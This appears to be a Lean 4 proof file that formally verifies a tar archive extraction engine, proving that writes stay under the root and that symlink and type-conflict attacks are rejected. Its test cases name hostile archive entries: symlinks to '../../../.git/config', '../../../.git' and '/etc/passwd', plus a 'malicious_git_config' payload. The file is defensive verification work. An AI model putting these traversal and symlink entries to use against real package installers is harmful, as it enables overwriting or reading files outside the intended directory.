    (NpmBypass.test_symlink_attack ∈ NpmBypass.all_archives
      ∧ NpmBypass.symlink_member "package/evil_link" "../../../.git/config"
          ∈ NpmBypass.test_symlink_attack
      ∧ (NpmBypass.symlink_member "package/evil_link" "../../../.git/config").etype
          = TarType.SYMTYPE)
    ∧ ((NpmBypass.symlink_member "package/evil_link" "../../../.git/config").linkname.data.take 2
          = ['.', '.']
      ∧ Engine.startsAbs
          (NpmBypass.symlink_member "package/evil_link" "../../../.git/config").linkname
          = false) :=
  ⟨⟨by decide, by decide, by decide⟩,
    claim_C9_link_targets_relative_dotdot NpmBypass.test_symlink_attack (by decide)
      (NpmBypass.symlink_member "package/evil_link" "../../../.git/config") (by decide)
      (Or.inl (by decide))⟩

/-- Claim C10: every regular-file entry in every generated archive declares
a size equal to the byte length of its payload — over the seven
create_all_tarballs archives, the bundled archive, the tar-slip archive,
and, for arbitrary payload texts, the five members built by
create_evil_tarball's create_tarball. -/
theorem claim_C10_declared_size_matches_payload :
    (∀ a ∈ NpmBypass.all_archives
            ++ [Bundled.create_bundled_tarball, TarSlip.create_tarslip_tarball],
      ∀ e ∈ a, e.etype = TarType.REGTYPE → e.size = utf8Len e.payload)
    ∧ (∀ p i b n l : String,
        ∀ e ∈ EvilTarball.create_tarball p i b n l,
          e.etype = TarType.REGTYPE → e.size = utf8Len e.payload) := by
  constructor
  · decide
  · intro p i b n l e he _
    simp only [EvilTarball.create_tarball, List.mem_cons, List.not_mem_nil, or_false] at he
    rcases he with rfl | rfl | rfl | rfl | rfl <;> rfl

/-- Witness for claim C10 at the package.json member of unicode.tar.gz and
at a concrete instantiation of create_tarball. -/
theorem claim_C10_witness :
    (NpmBypass.test_unicode_normalization
        ∈ NpmBypass.all_archives
            ++ [Bundled.create_bundled_tarball, TarSlip.create_tarslip_tarball]
      ∧ NpmBypass.add_file "package/package.json" NpmBypass.base_pkg
          ∈ NpmBypass.test_unicode_normalization
      ∧ (NpmBypass.add_file "package/package.json" NpmBypass.base_pkg).etype
          = TarType.REGTYPE)
    ∧ (NpmBypass.add_file "package/package.json" NpmBypass.base_pkg).size
        = utf8Len (NpmBypass.add_file "package/package.json" NpmBypass.base_pkg).payload
    ∧ ∀ e ∈ EvilTarball.create_tarball "a" "b" "c" "d" "e",
        e.etype = TarType.REGTYPE → e.size = utf8Len e.payload :=
  ⟨⟨by decide, by decide, by decide⟩,
    claim_C10_declared_size_matches_payload.1 NpmBypass.test_unicode_normalization (by decide)
      (NpmBypass.add_file "package/package.json" NpmBypass.base_pkg) (by decide) (by decide),
    fun e he ht => claim_C10_declared_size_matches_payload.2 "a" "b" "c" "d" "e" e he ht⟩

/-- A successfully normalized path is nonempty and contains no dot-dot
segment. -/
theorem normalize_ok_shape {opts : Engine.Options} {raw : String} {segs : List String}
    (h : Engine.normalize opts raw = Except.ok segs) : segs ≠ [] ∧ ".." ∉ segs := by
  simp only [Engine.normalize] at h
  split at h
  · simp at h
  split at h
  · simp at h
  split at h
  · simp at h
  split at h
  · simp at h
  split at h
  · simp at h
  rename_i hdd hne
  injection h with h
  subst h
  exact ⟨hne, fun hm => hdd (List.drop_subset _ _ hm)⟩

/-- The engine only decides to write at a location that is free, whose
ancestors are all real directories, and that came out of the Path
Normalizer. -/
theorem planEntry_writeA_shape {opts : Engine.Options}
    {fs : List (List String × Engine.FSNode)} {total : Nat} {e : ArchiveEntry}
    {segs : List String} {node : Engine.FSNode} {add : Nat}
    (h : Engine.planEntry opts fs total e = Engine.Action.writeA segs node add) :
    Engine.lookupFS fs segs = none
    ∧ Engine.ancestorsAreDirs fs segs = true
    ∧ Engine.normalize opts e.name = Except.ok segs := by
  unfold Engine.planEntry at h
  repeat' split at h
  all_goals simp_all

/-- An object materialized in the current run survives any later entry:
the engine only ever inserts at locations where nothing exists yet. -/
theorem processEntry_preserves_lookup {opts : Engine.Options} {st : Engine.EngineState}
    {e : ArchiveEntry} {p : List String} {node : Engine.FSNode}
    (h : Engine.lookupFS st.fs p = some node) :
    Engine.lookupFS (Engine.processEntry opts st e).fs p = some node := by
  unfold Engine.processEntry
  rcases hp : Engine.planEntry opts st.fs st.totalSize e with r | _ | ⟨segs, n, add⟩
  · simpa using h
  · simpa using h
  · have hnone := (planEntry_writeA_shape hp).1
    by_cases hq : segs = p
    · subst hq
      rw [h] at hnone
      cases hnone
    · simpa [Engine.lookupFS, hq] using h

/-- Materialized objects survive the remainder of the run. -/
theorem runEntries_preserves_lookup (opts : Engine.Options) (entries : List ArchiveEntry) :
    ∀ (st : Engine.EngineState) (p : List String) (node : Engine.FSNode),
      Engine.lookupFS st.fs p = some node →
      Engine.lookupFS (Engine.runEntries opts st entries).fs p = some node := by
  induction entries with
  | nil => intro st p node h; exact h
  | cons e rest ih => intro st p node h; exact ih _ _ _ (processEntry_preserves_lookup h)

/-- Physical resolution of a dot-dot-free path none of whose nonempty
prefixes is a symlink is the identity. -/
theorem physResolve_of_clear (fs : List (List String × Engine.FSNode)) :
    ∀ (rest acc : List String), ".." ∉ rest →
      (∀ n, 1 ≤ n → n ≤ rest.length →
        Engine.isSymNode (Engine.lookupFS fs (acc ++ rest.take n)) = false) →
      Engine.physResolve fs (rest.length + 1) acc rest = some (acc ++ rest) := by
  intro rest
  induction rest with
  | nil => intro acc _ _; simp [Engine.physResolve]
  | cons s rest ih =>
    intro acc hdd hclear
    have hs : s ≠ ".." := fun hcon => hdd (hcon ▸ List.mem_cons_self s rest)
    have h1 : Engine.isSymNode (Engine.lookupFS fs (acc ++ [s])) = false := by
      simpa using hclear 1 (le_refl 1) (by simp)
    have hrec : Engine.physResolve fs (rest.length + 1) (acc ++ [s]) rest
        = some ((acc ++ [s]) ++ rest) :=
      ih (acc ++ [s]) (fun hm => hdd (List.mem_cons_of_mem _ hm))
        (fun n h1n h2n => by
          simpa [List.append_assoc] using hclear (n + 1) (by omega) (by simpa using h2n))
    simp only [List.length_cons, Engine.physResolve]
    rw [if_neg hs]
    rcases hl : Engine.lookupFS fs (acc ++ [s]) with _ | node
    · simp only [hl]
      rw [hrec]
      simp
    · cases node with
      | dir =>
        simp only [hl]
        rw [hrec]
        simp
      | file pay =>
        simp only [hl]
        rw [hrec]
        simp
      | symlink t =>
        rw [hl] at h1
        simp [Engine.isSymNode] at h1

/-- A write audit record is good when its location is a nonempty
root-relative path whose physical (post-symlink) resolution against the
filesystem at the moment of the write is the location itself. -/
def goodWrite (w : List (List String × Engine.FSNode) × List String) : Prop :=
  w.2 ≠ [] ∧ Engine.physResolve w.1 (w.2.length + 1) [] w.2 = some w.2

/-- Processing one entry only adds good write records. -/
theorem processEntry_writes_good {opts : Engine.Options} {st : Engine.EngineState}
    {e : ArchiveEntry} (hw : ∀ w ∈ st.writes, goodWrite w) :
    ∀ w ∈ (Engine.processEntry opts st e).writes, goodWrite w := by
  unfold Engine.processEntry
  rcases hp : Engine.planEntry opts st.fs st.totalSize e with r | _ | ⟨segs, n, add⟩
  · exact hw
  · exact hw
  · intro w hwmem
    obtain ⟨hnone, hanc, hnorm⟩ := planEntry_writeA_shape hp
    obtain ⟨hne, hdd⟩ := normalize_ok_shape hnorm
    rcases List.mem_cons.mp hwmem with rfl | hmem
    · refine ⟨hne, ?_⟩
      have hclear : ∀ m, 1 ≤ m → m ≤ segs.length →
          Engine.isSymNode (Engine.lookupFS st.fs ([] ++ segs.take m)) = false := by
        intro m h1m h2m
        rw [List.nil_append]
        rcases lt_or_eq_of_le h2m with hlt | heq
        · have hall := (List.all_eq_true.mp hanc) m (List.mem_range.mpr hlt)
          simp only [Bool.or_eq_true] at hall
          rcases hall with hemp | hdir
          · exfalso
            have hnil2 : segs.take m = [] := by
              cases hq : segs.take m with
              | nil => rfl
              | cons a l => rw [hq] at hemp; cases hemp
            rcases List.take_eq_nil_iff.mp hnil2 with h0 | hnil
            · omega
            · exact hne hnil
          · rcases hlk : Engine.lookupFS st.fs (segs.take m) with _ | nd
            · rfl
            · cases nd with
              | dir => rfl
              | file pay => rw [hlk] at hdir; simp at hdir
              | symlink t => rw [hlk] at hdir; simp at hdir
        · subst heq
          rw [List.take_length, hnone]
          rfl
      have := physResolve_of_clear st.fs segs [] hdd hclear
      simpa using this
    · exact hw w hmem

/-- A whole run only accumulates good write records. -/
theorem runEntries_writes_good (opts : Engine.Options) (entries : List ArchiveEntry) :
    ∀ (st : Engine.EngineState), (∀ w ∈ st.writes, goodWrite w) →
      ∀ w ∈ (Engine.runEntries opts st entries).writes, goodWrite w := by
  induction entries with
  | nil => intro st hw; exact hw
  | cons e rest ih => intro st hw; exact ih _ (processEntry_writes_good hw)

/-- Claim C1: for every archive and every extraction root, every
filesystem write the engine performs lands, lexically, on a strict
descendant of the root (the root followed by the nonempty normalized
segment list), and its physical resolution — following symlinks in the
filesystem as materialized at the moment of the write — is that same
strict descendant; no entry causes a write outside the root. -/
theorem claim_C1_writes_stay_under_root (opts : Engine.Options)
    (entries : List ArchiveEntry) (root : List String) :
    ∀ w ∈ (Engine.extract opts entries).writes,
      Engine.strictlyUnder root (root ++ w.2)
      ∧ Engine.physResolve w.1 (w.2.length + 1) [] w.2 = some w.2 := by
  intro w hw
  have hg : goodWrite w :=
    runEntries_writes_good opts entries Engine.initState (by simp [Engine.initState]) w hw
  exact ⟨⟨w.2, hg.1, rfl⟩, hg.2⟩

/-- Options used to instantiate the engine on concrete archives: strip the
conventional package/ wrapper, permit link entries so that link validation
itself is exercised, generous size limits. -/
def testOptions : Engine.Options :=
  { stripComponents := 1, allowSymlinks := true, allowHardlinks := true,
    maxEntrySize := 1000000, maxTotalSize := 1000000 }

/-- Witness for claim C1 at the first write of a run extracting the base
package.json of create_all_tarballs. -/
theorem claim_C1_witness :
    (([], ["package.json"]) : List (List String × Engine.FSNode) × List String)
        ∈ (Engine.extract testOptions
            [NpmBypass.add_file "package/package.json" NpmBypass.base_pkg]).writes
    ∧ (Engine.strictlyUnder ["srv", "app"] (["srv", "app"] ++ ["package.json"])
      ∧ Engine.physResolve [] (["package.json"].length + 1) [] ["package.json"]
          = some ["package.json"]) :=
  ⟨by decide,
    claim_C1_writes_stay_under_root testOptions
      [NpmBypass.add_file "package/package.json" NpmBypass.base_pkg]
      ["srv", "app"] ([], ["package.json"]) (by decide)⟩

/-- Claim C2: once a path has been materialized as a directory or a file
in the current run, a later entry whose normalized path is the same but
whose type differs — in particular a symlink re-declaring a directory —
is rejected with TypeConflict, leaves the filesystem unchanged, and the
original object survives the entire remainder of the run. -/
theorem claim_C2_type_conflict_never_replaces (opts : Engine.Options)
    (st : Engine.EngineState) (e : ArchiveEntry) (rest : List ArchiveEntry)
    (segs : List String) (node : Engine.FSNode) (k : Engine.EntryKind)
    (hcls : Engine.classify e = Except.ok k)
    (hnorm : Engine.normalize opts e.name = Except.ok segs)
    (hmat : Engine.lookupFS st.fs segs = some node)
    (_hdirfile : node = Engine.FSNode.dir ∨ ∃ pay, node = Engine.FSNode.file pay)
    (hdiff : Engine.sameKind node k = false) :
    (Engine.processEntry opts st e).report
        = Engine.Outcome.rejected e.name Engine.Rejection.typeConflict :: st.report
    ∧ (Engine.processEntry opts st e).fs = st.fs
    ∧ Engine.lookupFS (Engine.runEntries opts (Engine.processEntry opts st e) rest).fs segs
        = some node := by
  have hplan : Engine.planEntry opts st.fs st.totalSize e
      = Engine.Action.rejectA Engine.Rejection.typeConflict := by
    simp [Engine.planEntry, hcls, hnorm, hmat, hdiff]
  have hfs : (Engine.processEntry opts st e).fs = st.fs := by
    unfold Engine.processEntry
    rw [hplan]
  refine ⟨?_, hfs, ?_⟩
  · unfold Engine.processEntry
    rw [hplan]
  · exact runEntries_preserves_lookup opts rest _ segs node (by rw [hfs]; exact hmat)

/-- Witness for claim C2: after the directory entry package/swap/ of
symlink.tar.gz is extracted, the symlink entry package/swap is rejected
with TypeConflict and the directory survives the rest of the run. -/
theorem claim_C2_witness :
    (Engine.classify (NpmBypass.symlink_member "package/swap" "../../../.git")
        = Except.ok Engine.EntryKind.symlink
      ∧ Engine.normalize testOptions "package/swap" = Except.ok ["swap"]
      ∧ Engine.lookupFS (Engine.extract testOptions
          [ { name := "package/swap/", etype := TarType.DIRTYPE, linkname := "",
              size := 0, mode := 493, payload := "" } ]).fs ["swap"]
          = some Engine.FSNode.dir
      ∧ Engine.sameKind Engine.FSNode.dir Engine.EntryKind.symlink = false)
    ∧ (Engine.processEntry testOptions
          (Engine.extract testOptions
            [ { name := "package/swap/", etype := TarType.DIRTYPE, linkname := "",
                size := 0, mode := 493, payload := "" } ])
          (NpmBypass.symlink_member "package/swap" "../../../.git")).report
        = Engine.Outcome.rejected "package/swap" Engine.Rejection.typeConflict
            :: (Engine.extract testOptions
                [ { name := "package/swap/", etype := TarType.DIRTYPE, linkname := "",
                    size := 0, mode := 493, payload := "" } ]).report
    ∧ (Engine.processEntry testOptions
          (Engine.extract testOptions
            [ { name := "package/swap/", etype := TarType.DIRTYPE, linkname := "",
                size := 0, mode := 493, payload := "" } ])
          (NpmBypass.symlink_member "package/swap" "../../../.git")).fs
        = (Engine.extract testOptions
            [ { name := "package/swap/", etype := TarType.DIRTYPE, linkname := "",
                size := 0, mode := 493, payload := "" } ]).fs
    ∧ Engine.lookupFS
        (Engine.runEntries testOptions
          (Engine.processEntry testOptions
            (Engine.extract testOptions
              [ { name := "package/swap/", etype := TarType.DIRTYPE, linkname := "",
                  size := 0, mode := 493, payload := "" } ])
            (NpmBypass.symlink_member "package/swap" "../../../.git"))
          [NpmBypass.add_file "package/swap/config"
            (NpmBypass.malicious_git_config "symlink-swap")]).fs ["swap"]
        = some Engine.FSNode.dir :=
  ⟨⟨by decide, by decide, by decide, by decide⟩,
    claim_C2_type_conflict_never_replaces testOptions
      (Engine.extract testOptions
        [ { name := "package/swap/", etype := TarType.DIRTYPE, linkname := "",
            size := 0, mode := 493, payload := "" } ])
      (NpmBypass.symlink_member "package/swap" "../../../.git")
      [NpmBypass.add_file "package/swap/config"
        (NpmBypass.malicious_git_config "symlink-swap")]
      ["swap"] Engine.FSNode.dir Engine.EntryKind.symlink
      (by decide) (by decide) (by decide) (Or.inl rfl) (by decide)⟩

/-- Claim C3 counterexample: the symlink entry package/swap of
symlink.tar.gz has a relative dot-dot target that escapes the root
(resolveTarget is none), yet when it re-declares the path of the
directory materialized just before it, the engine rejects it with
TypeConflict — not LinkTargetEscape — exactly as the spec's swap scenario
prescribes; so the claim that such an entry is always rejected with
LinkTargetEscape is false. -/
theorem claim_C3_counterexample :
    Engine.classify (NpmBypass.symlink_member "package/swap" "../../../.git")
        = Except.ok Engine.EntryKind.symlink
    ∧ Engine.resolveTarget (["swap"].dropLast)
        (NpmBypass.symlink_member "package/swap" "../../../.git").linkname = none
    ∧ (Engine.extract testOptions
        [ { name := "package/swap/", etype := TarType.DIRTYPE, linkname := "",
            size := 0, mode := 493, payload := "" },
          NpmBypass.symlink_member "package/swap" "../../../.git" ]).report
      = [ Engine.Outcome.rejected "package/swap" Engine.Rejection.typeConflict,
          Engine.Outcome.written "package/swap/" ]
    ∧ Engine.Rejection.typeConflict ≠ Engine.Rejection.linkTargetEscape := by
  decide

/-- Claim C3 (amended): for every symlink entry whose stored path
normalizes successfully and does not collide with an object already
materialized in the run, an absolute link target, or a relative target
whose dot-dot resolution against the entry's parent directory escapes the
root, is rejected with LinkTargetEscape — independently of the filesystem
content, hence regardless of whether the target exists; when an earlier
check already rejects the entry (TypeConflict on a re-declared path), that
earlier rejection prevails and the symlink is still never created. -/
theorem claim_C3_amended_link_target_escape (opts : Engine.Options)
    (st : Engine.EngineState) (e : ArchiveEntry) (segs : List String)
    (hcls : Engine.classify e = Except.ok Engine.EntryKind.symlink)
    (hnorm : Engine.normalize opts e.name = Except.ok segs)
    (hfresh : Engine.lookupFS st.fs segs = none)
    (hesc : Engine.startsAbs (Engine.nfcNormalize e.linkname) = true
          ∨ Engine.resolveTarget segs.dropLast e.linkname = none) :
    (Engine.processEntry opts st e).report
        = Engine.Outcome.rejected e.name Engine.Rejection.linkTargetEscape :: st.report
    ∧ (Engine.processEntry opts st e).fs = st.fs := by
  have htgt : Engine.resolveTarget segs.dropLast e.linkname = none := by
    rcases hesc with habs | hnone
    · simp [Engine.resolveTarget, habs]
    · exact hnone
  have hplan : Engine.planEntry opts st.fs st.totalSize e
      = Engine.Action.rejectA Engine.Rejection.linkTargetEscape := by
    simp [Engine.planEntry, hcls, hnorm, hfresh, htgt]
  constructor
  · unfold Engine.processEntry
    rw [hplan]
  · unfold Engine.processEntry
    rw [hplan]

/-- Witness for the amended claim C3 at a symlink entry with the absolute
target /etc/passwd processed from the empty state. -/
theorem claim_C3_witness :
    (Engine.classify (NpmBypass.symlink_member "package/abs_link" "/etc/passwd")
        = Except.ok Engine.EntryKind.symlink
      ∧ Engine.normalize testOptions "package/abs_link" = Except.ok ["abs_link"]
      ∧ Engine.lookupFS Engine.initState.fs ["abs_link"] = none
      ∧ Engine.startsAbs (Engine.nfcNormalize "/etc/passwd") = true)
    ∧ (Engine.processEntry testOptions Engine.initState
          (NpmBypass.symlink_member "package/abs_link" "/etc/passwd")).report
        = Engine.Outcome.rejected "package/abs_link" Engine.Rejection.linkTargetEscape
            :: Engine.initState.report
    ∧ (Engine.processEntry testOptions Engine.initState
          (NpmBypass.symlink_member "package/abs_link" "/etc/passwd")).fs
        = Engine.initState.fs :=
  ⟨⟨by decide, by decide, by decide, by decide⟩,
    claim_C3_amended_link_target_escape testOptions Engine.initState
      (NpmBypass.symlink_member "package/abs_link" "/etc/passwd") ["abs_link"]
      (by decide) (by decide) (by decide) (Or.inl (by decide))⟩
